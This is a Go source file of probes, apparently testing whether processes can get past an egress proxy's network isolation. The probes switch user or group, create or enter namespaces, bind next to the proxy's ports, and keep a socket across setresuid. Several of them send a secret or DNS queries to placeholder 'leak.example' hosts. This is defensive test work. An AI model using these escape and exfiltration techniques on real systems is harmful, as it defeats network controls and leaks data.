package attack

import (
	"errors"
	"fmt"
	"net/netip"
	"os"
	"runtime"
	"syscall"
	"time"

	"golang.org/x/sys/unix"

	"data-space.liqo.io/pkg/values/apis"
)

// jobs are what children with another identity do.
func jobs() map[string]func(a Aim) error {
	tcp, udp := shape{kind: unix.SOCK_STREAM, to: open}, shape{kind: unix.SOCK_DGRAM, to: port(9)}
	dns := shape{kind: unix.SOCK_DGRAM, to: port(53), payload: question("uid.leak.example", 1)}
	bound := func(s shape) shape { s.prepare = toInterface; return s }
	with := func(s shape) func(a Aim) error { return func(a Aim) error { return use(a, s) } }
	return map[string]func(a Aim) error{
		"TCP": with(tcp), "TCP, bound to the interface": with(bound(tcp)),
		"UDP": with(udp), "UDP, bound to the interface": with(bound(udp)),
		"DNS": with(dns), "DNS, bound to the interface": with(bound(dns)),
		"ping": ping,
		"TCP to the explicit proxy": func(a Aim) error {
			return ask(a, netip.AddrPortFrom(a.loopback(), apis.PortEgressHTTP), "GET http://"+a.Open.String()+"/probe HTTP/1.1\r\nHost: x\r\n\r\n", "")
		},
		"listening with the ingress": func(a Aim) error { return share(a, netip.AddrPortFrom(anywhere(a), apis.PortIngressTCP)) },
		"listening with the egress":  func(a Aim) error { return share(a, netip.AddrPortFrom(a.loopback(), apis.PortEgressTCP)) },
		"raw":                        func(a Aim) error { return raw(a, unix.IPPROTO_UDP, udpPacket(a, 4000, 9)) },
	}
}

// identities are children that take the proxy's user or group, or live in namespaces of their own.
func identities() []Probe {
	var all []Probe
	for _, job := range []string{"TCP", "TCP, bound to the interface", "UDP", "UDP, bound to the interface", "DNS", "DNS, bound to the interface", "ping", "TCP to the explicit proxy", "listening with the ingress", "listening with the egress"} {
		all = append(all, Probe{"as the proxy's user and group: " + job, None, func(a Aim) error {
			return as(credential(a.Proxy, a.Proxy), job, a)
		}})
	}
	all = append(all, each(None, "as the proxy's %s only: DNS", []named[func(a Aim) *syscall.SysProcAttr]{
		{"user", func(a Aim) *syscall.SysProcAttr { return credential(a.Proxy, 0) }},
		{"group", func(a Aim) *syscall.SysProcAttr { return credential(0, a.Proxy) }},
	}, func(a Aim, who func(a Aim) *syscall.SysProcAttr) error { return as(who(a), "DNS", a) })...)
	for _, job := range []string{"UDP", "DNS", "TCP", "raw"} {
		all = append(all, Probe{"in a user namespace of its own: " + job, None, func(a Aim) error { return as(userNamespace(), job, a) }})
		all = append(all, Probe{"in a user namespace of its own, as the proxy's user: " + job, None, func(a Aim) error {
			attributes := userNamespace()
			attributes.UidMappings[0].ContainerID = int(a.Proxy)
			attributes.Credential = &syscall.Credential{Uid: a.Proxy, NoSetGroups: true}
			return as(attributes, job, a)
		}})
	}
	return append(all,
		Probe{"in a network namespace of its own: raw", None, func(a Aim) error {
			attributes := userNamespace()
			attributes.Cloneflags |= unix.CLONE_NEWNET
			return as(attributes, "raw", a)
		}},
		Probe{"setns to another network namespace", None, enter},
		Probe{"a user's socket kept over setuid to the proxy's", None, kept},
	)
}

func userNamespace() *syscall.SysProcAttr {
	return &syscall.SysProcAttr{
		Cloneflags:  unix.CLONE_NEWUSER,
		UidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getuid(), Size: 1}},
		GidMappings: []syscall.SysProcIDMap{{ContainerID: 0, HostID: os.Getgid(), Size: 1}},
	}
}

func anywhere(a Aim) netip.Addr {
	if a.v6() {
		return netip.IPv6Unspecified()
	}
	return netip.IPv4Unspecified()
}

// share listens on a port of the proxy beside it (SO_REUSEPORT), says the secret to whoever comes, and listens to them.
func share(a Aim, at netip.AddrPort) error {
	return datagramLike(a, unix.SOCK_STREAM, func(fd int) error {
		if err := unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_REUSEPORT, 1); err != nil {
			return err
		}
		if err := errors.Join(unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_REUSEADDR, 1), bind(fd, at), unix.Listen(fd, 8)); err != nil {
			return err
		}
		return reached{fmt.Sprintf("listens on %s beside the proxy", at)}
	})
}

// enter tries every network namespace that can be seen.
func enter(Aim) error {
	runtime.LockOSThread() // this thread is not given back
	var failed error
	own, _ := os.Readlink("/proc/self/ns/net")
	for pid := range 400 {
		path := fmt.Sprintf("/proc/%d/ns/net", pid)
		if there, err := os.Readlink(path); err != nil || there == own {
			continue
		}
		fd, err := unix.Open(path, unix.O_RDONLY|unix.O_CLOEXEC, 0)
		if err == nil {
			err = os.NewSyscallError("setns", unix.Setns(fd, unix.CLONE_NEWNET))
			_ = unix.Close(fd)
		}
		if err == nil {
			return reached{"the network namespace of process " + fmt.Sprint(pid)}
		}
		failed = err
	}
	return failed
}

// kept makes sockets first and takes the proxy's user then, for the thread that sends alone.
func kept(a Aim) error {
	runtime.LockOSThread()
	return datagramLike(a, unix.SOCK_DGRAM, func(fd int) error {
		if _, _, errno := unix.RawSyscall(unix.SYS_SETRESUID, uintptr(a.Proxy), uintptr(a.Proxy), uintptr(a.Proxy)); errno != 0 {
			return errno
		}
		err := unix.Fchown(fd, int(a.Proxy), int(a.Proxy))
		time.Sleep(time.Millisecond)
		return errors.Join(err, unix.Sendto(fd, []byte(question("kept.leak.example", 1)), 0, sockaddr(a.far(53))), unix.Sendto(fd, []byte(Secret), 0, sockaddr(a.far(9))))
	})
}
